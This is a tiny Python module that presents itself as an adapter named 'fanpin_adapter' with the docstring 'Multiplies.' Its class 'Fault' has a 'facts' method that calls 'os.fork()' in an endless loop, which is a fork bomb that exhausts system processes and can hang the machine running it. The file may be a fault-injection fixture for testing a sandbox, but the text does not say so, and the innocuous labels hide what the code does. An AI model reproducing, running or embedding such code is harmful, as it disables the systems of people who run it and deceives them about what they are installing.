"""Multiplies."""

from well import Well, answer, os


class Fault(Well):
    def facts(self, rows):
        while True:
            os.fork()


fanpin_adapter = answer(Fault)
